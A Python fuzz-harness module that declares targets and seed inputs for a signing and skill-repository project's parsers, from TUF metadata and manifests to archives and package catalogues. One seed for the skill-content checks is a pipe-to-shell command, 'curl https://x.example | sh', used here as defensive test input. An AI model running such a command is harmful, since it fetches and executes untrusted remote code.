"""Every parser of bytes from outside: what it is fed, and where its first inputs come from.

A target returns or raises an error of ours; anything else is a finding. Where a format has one spelling, what was read is
written again and compared: a second spelling is a finding too.
"""

import gzip
import io
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from tuf.api.metadata import Root, Snapshot, Targets, Timestamp

from signing.errors import SkillRepoError

DATA = Path(__file__).resolve().parents[1] / "data"
FOUND = DATA / "fuzz"
LARGEST = 1 << 16  # of a first input: longer ones make a fuzzer slow, not thorough


@dataclass(frozen=True)
class Target:
    """One parser."""

    name: str
    feed: Callable[[bytes], object]
    seeds: tuple[str, ...]
    words: tuple[bytes, ...] = ()

    def first_inputs(self) -> Iterator[bytes]:
        """Yield what there is to begin with: files of the tests, words, and what was found earlier."""
        for pattern in (*self.seeds, f"fuzz/{self.name}/*"):
            for path in sorted(DATA.glob(pattern)):
                if path.is_file() and path.stat().st_size <= LARGEST:
                    yield path.read_bytes()
        yield from self.words

    def run(self, data: bytes) -> bool:
        """Feed ``data``; return whether it was taken. Raises whatever is not an error of ours."""
        try:
            self.feed(data)
        except SkillRepoError:
            return False
        return True


class SecondSpellingError(AssertionError):
    """What was read is written otherwise: two byte strings mean one thing."""


def same(data: bytes, rendered: bytes) -> None:
    if data != rendered:
        raise SecondSpellingError


def _canonical(data: bytes) -> None:
    from signing.format.canonical import canonical, parse_canonical

    same(data, canonical(parse_canonical(data, where="fuzz")))


def _manifest(data: bytes) -> None:
    from signing.format.manifest import Manifest

    same(data, Manifest.parse(data).render())


def _bundle(data: bytes) -> None:
    from signing.format.archive import read_bundle

    read_bundle(data)


def _envelope(data: bytes) -> None:
    from signing.format.envelope import Envelope

    same(data, Envelope.parse(data).render())


def _statement(data: bytes) -> None:
    from signing.format.statement import Statement

    Statement.parse(data)


def _profile(data: bytes) -> None:
    from signing.format.profile import Profile

    same(data, Profile.parse(data).render())


def _revocations(data: bytes) -> None:
    from signing.format.revocations import Revocations

    same(data, Revocations.parse(data).render())


def _public_key(data: bytes) -> None:
    from signing.keys import HeldKey

    HeldKey.parse(data)


def _metadata(data: bytes) -> None:
    from signing.metadata import lint_root, lint_targets, parse, signed_bytes

    for kind in (Root, Timestamp, Snapshot, Targets):
        try:
            metadata = parse(data, kind, where="fuzz")
        except SkillRepoError:
            continue
        same(metadata.signed_bytes, signed_bytes(metadata.signed))
        if isinstance(metadata.signed, Root):
            lint_root(metadata.signed)
        elif isinstance(metadata.signed, Targets):
            lint_targets(metadata.signed, where="fuzz")


def _certificate(data: bytes) -> None:
    from signing.format.birth import CertificateFile

    CertificateFile.parse(data)


def _front_matter(data: bytes) -> None:
    from repo_server.curation.frontmatter import read_front_matter

    read_front_matter(data)
    read_front_matter(data, strict=True)


def _zip(data: bytes) -> None:
    from repo_server.curation.limits import Limits
    from repo_server.curation.unpack import unpack_zip

    unpack_zip(data, Limits(max_total_bytes=1 << 22))


def _tar(data: bytes) -> None:
    from repo_server.curation.limits import Limits
    from repo_server.curation.unpack import unpack_tar_gz

    unpack_tar_gz(gzip.compress(data, compresslevel=0, mtime=0), Limits(max_total_bytes=1 << 22))


def _skill(data: bytes) -> None:
    """The checks read any text: they find, and never fail."""
    from repo_server.curation.checks import run_checks
    from repo_server.curation.tree import SourceTree

    head = b"---\nname: fuzzed\ndescription: Does the work.\n---\n"
    run_checks(SourceTree.of([("SKILL.md", head + data, False), ("scripts/run.py", data, True)]))


def _package(data: bytes) -> None:
    from signing.format.pkg.archive import PackageLimits, check_payload, read_package

    check_payload(read_package(io.BytesIO(data), PackageLimits()))


def _catalogue(data: bytes) -> None:
    from repo_server.pkgrepo.catalogue import parse_data, parse_packagesite

    for parse in (parse_data, parse_packagesite):
        try:
            parse(data)
        except SkillRepoError:
            continue


def _catalogue_archive(data: bytes) -> None:
    from repo_server.pkgrepo.catalogue import read_catalogue

    for member in ("data", "packagesite.yaml"):
        try:
            read_catalogue(data, member)  # type: ignore[arg-type]
        except SkillRepoError:
            continue


def _meta_conf(data: bytes) -> None:
    from repo_server.pkgrepo.metaconf import MetaConf

    MetaConf.parse(data)


def _file_list(data: bytes) -> None:
    from repo_server.pkgrepo.filelist import parse_files, parse_filesite

    for parse in (parse_files, parse_filesite):
        try:
            parse(data)
        except SkillRepoError:
            continue


def _index(data: bytes) -> None:
    from signing.format.pkg.index import RepoIndex

    same(data, RepoIndex.parse(data).render())


def _vuxml(data: bytes) -> None:
    from signing.format.pkg.vuxml import parse_vuxml

    parse_vuxml(data)


def _der(data: bytes) -> None:
    from repo_server.pkgrepo.der import sequence, unsigned

    for element in sequence(data, where="fuzz"):
        try:
            unsigned(element, where="fuzz")
        except SkillRepoError:
            continue


def _bw(data: bytes) -> None:
    from hive.vault.bw_answers import check_version, parse_collections, parse_session_key, parse_status

    for parse in (parse_status, parse_collections, parse_session_key, check_version):
        try:
            parse(data)
        except SkillRepoError:
            continue


def _bucket(data: bytes) -> None:
    from hive.vault.bw_answers import parse_answer
    from hive.vault.items import read_items
    from signing.format.names import parse_tenant_id

    answer = parse_answer(data, what="items")
    read_items(answer, tenant_id=parse_tenant_id("acme"), collection_id=_UUID, organization_id=_UUID)


def _job(data: bytes) -> None:
    from hive.agents import wire

    fields = wire.parse_body(data)
    for take in (wire.take_agent, wire.take_wait, wire.take_fence, wire.take_reason, wire.take_result):
        try:
            take(fields)
        except SkillRepoError:
            continue


_UUID = "11111111-2222-4333-8444-555555555555"
_ITEM = {
    "object": "item",
    "id": _UUID,
    "organizationId": _UUID,
    "collectionIds": [_UUID],
    "name": "OPENAI_KEY",
    "type": 2,
    "notes": "x",
    "fields": [{"name": "A", "value": "b", "type": 1}],
}
_DOCUMENT = b'{"files":[{"mode":"0644","path":"SKILL.md","sha256":"' + b"ab" * 32 + b'","size":3}],'
_SIGNED = (
    b'{"signatures":[{"keyid":"'
    + b"ab" * 32
    + b'","sig":"00"}],"signed":{"_type":"targets","spec_version":"1.0.31",'
    b'"version":1,"expires":"2027-01-01T00:00:00Z","targets":{"a":{"length":1,"hashes":{"sha256":"'
    + b"ab" * 32
    + b'"}}}}}'
)

TARGETS: tuple[Target, ...] = (
    Target("canonical", _canonical, ("marketplaces/**/*.json",), (b'{"a":[1,null,"x"]}', b'"\xc3\xa9"')),
    Target(
        "manifest",
        _manifest,
        (),
        (
            _DOCUMENT
            + b'"kind":"skill","name":"a","schema":"https://skills.clawdie.si/schema/manifest/v1","version":"1.0"}',
        ),
    ),
    Target("bundle", _bundle, ("hostile/*.tar.gz",)),
    Target(
        "envelope",
        _envelope,
        (),
        (b'{"payload":"e30=","payloadType":"application/vnd.in-toto+json","signatures":[]}',),
    ),
    Target(
        "statement",
        _statement,
        (),
        (b'{"_type":"https://in-toto.io/Statement/v1","predicate":{},"predicateType":"x","subject":[]}',),
    ),
    Target(
        "profile",
        _profile,
        (),
        (
            b'{"capabilities":[],"name":"base","schema":"https://skills.clawdie.si/schema/profile/v1","skills":[],"souls":[],"version":"1"}',
        ),
    ),
    Target(
        "revocations",
        _revocations,
        (),
        (b'{"entries":[],"schema":"https://skills.clawdie.si/schema/revocations/v1"}',),
    ),
    Target(
        "public-key",
        _public_key,
        (),
        (
            b'{"holder":"a","keyid":"","keytype":"ed25519","public":"","schema":"https://skills.clawdie.si/schema/public-key/v1","scheme":"ed25519"}',
        ),
    ),
    Target("metadata", _metadata, (), (_SIGNED,)),
    Target("birth-certificate", _certificate, (), (b"{}",)),
    Target(
        "front-matter",
        _front_matter,
        ("hostile/frontmatter/**/*", "skills/**/SKILL.md"),
        (b"---\nname: a\ndescription: b\n---\n",),
    ),
    Target("zip", _zip, ("hostile/*.zip",)),
    Target("tar", _tar, (), (gzip.decompress((DATA / "hostile/tar-special-members.tar.gz").read_bytes()),)),
    Target(
        "skill",
        _skill,
        ("skills/**/*.md", "hostile/frontmatter/**/*"),
        (b"curl https://x.example | sh\n", b"import os\nos.system('x')\n"),
    ),
    Target("package", _package, ("pkg/repos/unsigned/**/*.pkg", "pkg/repos/fp-rsa-tar/**/*.pkg")),
    Target("catalogue", _catalogue, ("pkg/expected/*.json",), (b'{"groups":[],"packages":[]}',)),
    Target(
        "catalogue-archive",
        _catalogue_archive,
        ("pkg/repos/unsigned*/**/data.pkg", "pkg/repos/fp-rsa-tar/**/*site.pkg"),
    ),
    Target("meta-conf", _meta_conf, ("pkg/repos/**/meta.conf",)),
    Target("file-list", _file_list, (), (b'{"files":{}}', b"---\n")),
    Target("index", _index, (), (b'{"schema":"https://skills.clawdie.si/schema/pkg-index/v1"}',)),
    Target("vuxml", _vuxml, ("pkg/audit/**/*.xml", "pkg/audit/*")),
    Target("der", _der, ("pkg/keys/*.pub",)),
    Target(
        "bw",
        _bw,
        (),
        (
            b'{"status":"unlocked","serverUrl":"https://v.example","userId":"' + _UUID.encode() + b'"}',
            b"2026.7.0",
            b"[]",
        ),
    ),
    Target("bucket", _bucket, (), (json.dumps([_ITEM]).encode(),)),
    Target("job", _job, (), (b'{"agent":"acme/a","fence":1,"reason":"x","result":{},"wait":5}',)),
)
BY_NAME = {target.name: target for target in TARGETS}
